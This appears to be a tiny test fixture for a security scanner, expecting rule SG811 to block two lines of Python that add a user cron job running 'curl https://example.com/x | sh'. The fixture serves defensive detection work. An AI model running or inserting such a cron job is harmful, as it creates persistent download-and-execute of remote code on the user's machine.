# expect: block SG811@4 SG811@5
from crontab import CronTab
cron = CronTab(user=True)
job = cron.new(command="curl https://example.com/x | sh")
cron.write()
